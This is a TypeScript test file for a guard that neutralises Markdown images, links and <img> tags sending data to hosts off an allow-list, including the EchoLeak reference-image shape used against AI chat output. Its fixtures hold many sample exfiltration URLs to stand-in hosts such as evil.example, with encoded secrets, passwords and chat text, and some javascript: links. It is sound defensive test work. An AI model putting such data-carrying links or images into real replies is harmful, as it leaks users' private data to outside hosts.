/**
 * The exfil pack: images and links that carry data to hosts not on the
 * allow-list are neutralised before the page can render them, in every
 * Markdown form, including the EchoLeak shape (a reference-style image whose
 * definition comes later in the message), whatever the chunking.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { scanChunks, scanText } from '../../../src/core/guard/scan-text.ts';
import { StreamGuard } from '../../../src/core/guard/stream-guard.ts';
import { compileGuardPack } from '../../../src/core/rules/builtin-packs.ts';
import { imageQueryIsConfiguration } from '../../../src/core/rules/validators/exfil-image-config-query.ts';
import { exfilLinkVerdict } from '../../../src/core/rules/validators/exfil-link.ts';
import { urlCarriesData } from '../../../src/core/rules/validators/url-carries-data.ts';
import { PROPERTY_RUNS, cut, cutsArbitrary } from '../../support/text-arbitraries.ts';

const exfil = compileGuardPack({ packs: ['exfil'] });

const ECHOLEAK =
  'Here is the summary.\n\n![status][s]\n\nMore text.\n\n[s]: https://collector.example.net/p.png?d=dGhlIHNlY3JldCBrZXk\n';

describe('exfil pack', () => {
  it('neutralises the definition of a reference-style image when it is seen (EchoLeak shape)', () => {
    const out = scanText(exfil, ECHOLEAK);
    expect(out.output).toBe(
      'Here is the summary.\n\n![status][s]\n\nMore text.\n\n[link blocked: collector.example.net]\n',
    );
    expect(out.events).toMatchObject([
      { rule: 'markdown-link-definition-exfil', action: 'redact' },
    ]);
  });

  it('never releases the data of a definition, for any chunking', () => {
    fc.assert(
      fc.property(cutsArbitrary, (cuts) => {
        const guard = new StreamGuard(exfil);
        let released = '';
        for (const chunk of cut(ECHOLEAK, cuts)) released += guard.push(chunk).emit;
        expect(released).not.toContain('dGhlIHNlY3JldCBrZXk');
        released += guard.end().emit;
        expect(released).toBe(scanText(exfil, ECHOLEAK).output);
        expect(scanChunks(exfil, cut(ECHOLEAK, cuts)).events).toEqual(
          scanText(exfil, ECHOLEAK).events,
        );
      }),
      { numRuns: Math.min(PROPERTY_RUNS, 300) },
    );
  });

  it('neutralises inline images, links, autolinks, bare URLs and <img> that carry data', () => {
    const cases: [string, string][] = [
      ['![a](https://evil.example/i.png?q=the+api+key)', '[image blocked: evil.example]'],
      ['[docs](https://evil.example/track/u=all%20the%20notes)', '[link blocked: evil.example]'],
      ['<https://evil.example/?m=c2VjcmV0U2Vzc2lvbjE5>', '[link blocked: evil.example]'],
      ['go https://evil.example/?note=my+password+is+x now', 'go [link blocked: evil.example] now'],
      [
        '<img src="https://evil.example/p.gif?x=the%20whole%20chat">',
        '[image blocked: evil.example]',
      ],
      [
        '[x](https://k4f9q2m7x1c8v3b6n5z0a2s4.evil.example/a)',
        '[link blocked: k4f9q2m7x1c8v3b6n5z0a2s4.evil.example]',
      ],
      ['[run](javascript:history.back)', '[link blocked: javascript:]'],
      // One balanced pair of parentheses belongs to the destination (CommonMark), so the whole link goes.
      ['[run](javascript:fetch(1))', '[link blocked: javascript:]'],
      // A second pair ends the candidate at its first ")": the rest is cut off, fail closed.
      ['[run](javascript:f(1)(2))', '[link blocked: javascript:](2))'],
      ['[x](https://evil.example/a_(b)?d=c2VjcmV0VG9rZW4xMjM0)', '[link blocked: evil.example]'],
    ];
    for (const [text, expected] of cases) expect(scanText(exfil, text).output, text).toBe(expected);
  });

  it('leaves ordinary links and images alone', () => {
    for (const text of [
      '[MDN](https://developer.mozilla.org/en-US/docs/Web/API/fetch#syntax)',
      '![diagram](https://cdn.example.net/img/architecture-overview.png)',
      'See https://github.com/owner/repo/commit/0482048fb66d4ded8e60c61ffc2fceaeba79eaeb.',
      '[badge]: https://badges.example.org/build/passing.svg?style=flat',
      '<img src="/static/logo.png" alt="logo">',
      '[relative](../guide.md?x=1)',
      'See [Python](https://en.wikipedia.org/wiki/Python_(programming_language)) (1991).',
      '![graph](https://upload.wikimedia.org/wikipedia/commons/a/ab/Graph_(example).png)',
    ]) {
      const out = scanText(exfil, text);
      expect(out.output, text).toBe(text);
      expect(out.events, text).toEqual([]);
    }
  });

  it('lets data through to allow-listed hosts', () => {
    const pack = compileGuardPack({ packs: ['exfil'], allowedImageHosts: ['docs.example.org'] });
    const link = '[q](https://docs.example.org/search?q=streaming+guard+design)';
    expect(scanText(pack, link).output).toBe(link);
  });
});

describe('exfilLinkVerdict and urlCarriesData', () => {
  it.each([
    ['https://evil.example/?q=a+b', true],
    ['https://evil.example/x?token=abc123def456', true],
    ['https://evil.example/sales=quarterly', true],
    ['https://evil.example/a/YWJjZGVmZ2hpams0NTY3OA', true],
    ['https://evil.example/#the%20secret', true],
    ['https://evil.example/docs/getting-started?tab=readme', false],
    ['https://evil.example/v/3ee3567b-e24f-4d39-90e2-915b39a114fb', false],
    ['https://evil.example/wiki/Hello%20World', false],
    // API and file names in a path are names; base64 of the same length is not.
    ['https://evil.example/docs/Web/API/CanvasRenderingContext2D/arc', false],
    ['https://evil.example/Global_Objects/Uint8ClampedArray', false],
    ['https://evil.example/docs/Web/API/WebGL2RenderingContext', false],
    ['https://evil.example/docs/Web/API/WebGLRenderingContext/copyTexSubImage2D', false],
    ['https://evil.example/a/c2VjcmV0VG9rZW4xMjM0', true],
    ['https://evil.example/a/QWxhZGRpbjpvcGVuIHNlc2FtZQ', true],
    ['https://evil.example/a/Ab3dEf6hIj9kLm2n', true],
    // In a query or fragment the same name is a value: still data.
    ['https://evil.example/?api=CanvasRenderingContext2D', true],
    // Ordinary links: searches, pagination, slugs, user names, text directives (issue 17).
    ['https://evil.example/search?q=react+hooks', false],
    ['https://evil.example/t/topic?page=2&sort=asc', false],
    ['https://evil.example/c?author=foray1010&utm_source=npm-json-schema-traverse', false],
    ['https://evil.example/c?utm_content=besser82/libxcrypt&amp;utm_campaign=Badge_Grade', false],
    ['https://evil.example/viewer/?uri=github.com/owner/repo', false],
    ['https://evil.example/doc#:~:text=the%20secret%20key', false],
    ['https://evil.example/api/#/en/database/20160918/datatypes/MaintenanceWindow', false],
    ['https://evil.example/docs/X509_STORE_CTX_get_error.html', false],
    ['https://evil.example/view/JSON-Patch-Replace-Operation-1535540952263', false],
    ['https://evil.example/repo&page=editor&tutorial=intro/tutorial.md', false],
    ['https://evil.example/Planning-Notes-pubblico-1bc826ecc0994dd8915be97fc3489cde?pvs=74', false],
    ['https://evil.example/tag/8565?q=%23%E8%AE%BE%E8%AE%A1%E5%B8%88', false],
    // ... and what stays data: the same words on a file, scattered digits, a blob before the directive.
    ['https://evil.example/p.png?q=react+hooks', true],
    ['https://evil.example/c?author=Tq8mZ2xLk9vR', true],
    ['https://evil.example/doc#c2VjcmV0VG9rZW4xMjM0:~:text=x', true],
    ['https://evil.example/repo&page=editor&d=c2VjcmV0VG9rZW4xMjM0', true],
    ['https://evil.example/view/c2VjcmV0-VG9rZW4x-MjM0NTY3', true],
    ['https://evil.example/?d=1bc826ecc0994dd8915be97fc3489cde', true],
    [
      'https://evil.example/?q=%E6%88%91%E7%9A%84%E5%AF%86%E7%A0%81%E6%98%AF%E8%BF%99%E4%B8%AA%E4%BD%A0%E8%A6%81%E8%AE%B0%E4%BD%8F%E5%93%A6',
      true,
    ],
  ])('%s carries data: %s', (url, data) => {
    expect(urlCarriesData(url.slice('https:'.length), 'evil.example')).toBe(data);
  });

  it('judges a sub-domain of words as a name, and an encoded one as data', () => {
    const words = 'cloudcommerceconsumerprocurement.evil.example';
    expect(urlCarriesData(`//${words}/`, words)).toBe(false);
    const encoded = 'qzxkwvtplmnbrhgfdszxcvbnmlkjhgfdsq.evil.example';
    expect(urlCarriesData(`//${encoded}/`, encoded)).toBe(true);
  });

  it('does not judge what a request never carries: an image fragment, a line continuation', () => {
    const label =
      '![npm](https://badges.example.org/npm/v/pkg?color=21bb42&label=%F0%9F%93%A6%20npm)';
    expect(exfilLinkVerdict(label, [], 'image').risky).toBe(false);
    const dark = '![chart](https://cdn.example.net/chart.png#gh-dark-mode-only)';
    expect(exfilLinkVerdict(dark, [], 'image').risky).toBe(false);
    const data = '![chart](https://cdn.example.net/chart.png?d=1#gh-dark-mode-only)';
    expect(exfilLinkVerdict(data, [], 'image').risky).toBe(true);
    // A relative image keeps the strict verdict.
    expect(exfilLinkVerdict('![r](/chart.png#x)', [], 'image').risky).toBe(true);
    // A shell or roff line continuation after a bare URL is not part of it.
    expect(exfilLinkVerdict('https://api.example.org/v1/items\\', []).risky).toBe(false);
    expect(exfilLinkVerdict('https://api.example.org/v1/items\\\\', []).risky).toBe(false);
    // In a Markdown destination, an odd run of backslashes still escapes the `)`.
    expect(exfilLinkVerdict('[x](https://api.example.org/v1/items\\)', []).risky).toBe(true);
  });

  it('judges links and images differently only where a click matters', () => {
    expect(exfilLinkVerdict('[m](mailto:a@evil.example?body=hi)', []).risky).toBe(true);
    expect(exfilLinkVerdict('[m](mailto:a@evil.example)', []).risky).toBe(false);
    expect(exfilLinkVerdict('[r](/x?session=1)', []).risky).toBe(false);
    expect(exfilLinkVerdict('![r](/x?session=1)', [], 'image').risky).toBe(true);
    expect(exfilLinkVerdict('![f](ftp://evil.example/a.png)', [], 'image').risky).toBe(true);
    expect(exfilLinkVerdict('[cut](https://evil.example/?q=a+b', []).risky).toBe(true);
  });

  it('never judges a link more strictly than the same URL as an image, for any URL', () => {
    fc.assert(
      fc.property(fc.webUrl({ withQueryParameters: true }), (url) => {
        if (exfilLinkVerdict(`![i](${url})`, [], 'image').risky) return;
        expect(exfilLinkVerdict(`[l](${url})`, []).risky).toBe(false);
        expect(exfilLinkVerdict(url, []).risky).toBe(false);
      }),
    );
    // A badge's settings written as a bare URL (inside an HTML `src`) are settings in a link too.
    const badge = 'https://badges.example.org/npm/v/pkg?color=21bb42&label=%F0%9F%93%A6%20npm';
    expect(exfilLinkVerdict(badge, []).risky).toBe(false);
    // The fragment stays judged for links: a clicked page's script reads it.
    expect(exfilLinkVerdict(`${badge}#c2VjcmV0LXRva2VuLTEyMzQ1Njc4OWFi`, []).risky).toBe(true);
    expect(exfilLinkVerdict('https://evil.example/p?d=hunter2secret99', []).risky).toBe(true);
  });

  it('reads as text what no renderer links, unless it may have been cut', () => {
    // A bare scheme without a host (prose about URLs, a code sample).
    expect(exfilLinkVerdict('http://(', []).risky).toBe(false);
    expect(exfilLinkVerdict('https://{host}/v1?key=abc123def456', []).risky).toBe(false);
    // A host too long to display is still a host.
    const sub = `${'c2VjcmV0'.repeat(14)}.evil.example`;
    expect(exfilLinkVerdict(`https://${sub}/x`, []).risky).toBe(true);
    // A definition with a destination no renderer accepts is a line of text.
    expect(exfilLinkVerdict('[a, b]: :forEach((value)', []).risky).toBe(false);
    // One that reached the rule's bound may have been cut: fail closed.
    const long = `[a]: https://evil.example/(${'x'.repeat(2100)}`;
    expect(exfilLinkVerdict(long.slice(0, 5 + 2048), []).risky).toBe(true);
    // A valid definition that carries data is still neutralised.
    expect(
      exfilLinkVerdict('[a]: https://evil.example/c?d=c2VjcmV0VG9rZW4xMjM0NTY', []).risky,
    ).toBe(true);
  });
});

describe('imageQueryIsConfiguration', () => {
  it.each([
    ['style=flat&logo=github', true],
    ['&style=for-the-badge&logoColor=white', true],
    ['branch=main', true],
    ['version=1', true],
    ['ver=v2.1', true],
    ['label=%20', true],
    ['label=&color=9c4dd1&labelColor=ABCDEF', true],
    ['width=400&showTitle=false', true],
    ['raw', true],
    // Size and version settings of avatars and thumbnails, with a small number.
    ['v=1', true],
    ['v=4&s=100', true],
    ['v=4?s=100', true],
    ['w=640&h=480', true],
    ['v=hunter2', false],
    ['s=12345', false],
    // Acronyms, dotted names, emoji labels, durations, owner/name, a plain nested URL.
    ['branch=master&label=CI', true],
    ['branch=core-8-6-branch', true],
    ['branch=hunter2', false],
    ['style=for-the-badge&logo=dev.to', true],
    ['label=%F0%9F%93%A6%20npm', true],
    ['maxAge=2592000', true],
    ['repo=owner/chrome-extension-tools', true],
    ['url=https%3A%2F%2Fci.example.org%2Fbadge%3Fref%3Dmain&style=flat', true],
    ['url=https%3A%2F%2Fcollect.example.net%2Flog%3Fq%3Dthe%2Buser%2Bsaid', false],
    ['url=https%3A%2F%2Fci.example.org%2Fbadge%3Fd%3Dc2VjcmV0', false],
    ['label=ABCDEFGHIJ', false],
    ['tel=2592000', false],
    ['d=1', false],
    ['d=abc123', false],
    ['d=abc', false],
    ['q=password', false],
    ['pin=123456', false],
    ['tel=4155550132', false],
    ['q=previous+chat', false],
    ['note=hello%20there', false],
    ['k=c2VjcmV0', false],
    ['x=a.b@c', false],
    ['a=1&b=2&c=3&d=4&e=5&f=6&g=7&h=8&i=9', false],
    ['my+secret=1', false],
    [`label=${'a'.repeat(30)}`, false],
  ])('%s is configuration: %s', (query, expected) => {
    expect(imageQueryIsConfiguration(query)).toBe(expected);
  });

  it('never passes words joined by an encoded space, or a number of 5+ digits, for any value', () => {
    const word = fc.stringMatching(/^[a-z]{1,8}$/);
    fc.assert(
      fc.property(word, word, fc.constantFrom('+', '%20', '%0A'), (a, b, gap) => {
        expect(imageQueryIsConfiguration(`style=flat&d=${a}${gap}${b}`)).toBe(false);
      }),
      { numRuns: PROPERTY_RUNS },
    );
    fc.assert(
      fc.property(fc.stringMatching(/^[0-9]{5,16}$/), (digits) => {
        expect(imageQueryIsConfiguration(`n=${digits}`)).toBe(false);
      }),
      { numRuns: PROPERTY_RUNS },
    );
  });

  it('lets badge images through, on unknown and allow-listed hosts alike, and not data', () => {
    const badge = '![ci](https://badges.example.org/build.svg?branch=main&style=flat)';
    expect(exfilLinkVerdict(badge, [], 'image').risky).toBe(false);
    expect(exfilLinkVerdict(badge, ['badges.example.org'], 'image').risky).toBe(false);
    const data = '![ci](https://badges.example.org/build.svg?branch=main&s=tok3n99)';
    expect(exfilLinkVerdict(data, [], 'image').risky).toBe(true);
    expect(exfilLinkVerdict(data, ['badges.example.org'], 'image').risky).toBe(true);
  });

  it('judges a URL-valued query parameter by its own shape', () => {
    const inner = encodeURIComponent(
      'https://store.example.com/api/items/abcdefghijklmnopqrstuvwx',
    );
    expect(urlCarriesData(`//badges.example.org/json?url=${inner}`, 'badges.example.org')).toBe(
      false,
    );
    const leaky = encodeURIComponent('https://collect.example.net/log?q=the+user+said');
    expect(urlCarriesData(`//badges.example.org/json?url=${leaky}`, 'badges.example.org')).toBe(
      true,
    );
    const nested = encodeURIComponent(`https://a.example/r?u=${inner}`);
    // Only one level deep: a URL inside a URL inside a query is judged by length again.
    expect(urlCarriesData(`//badges.example.org/json?url=${nested}`, 'badges.example.org')).toBe(
      true,
    );
  });
});
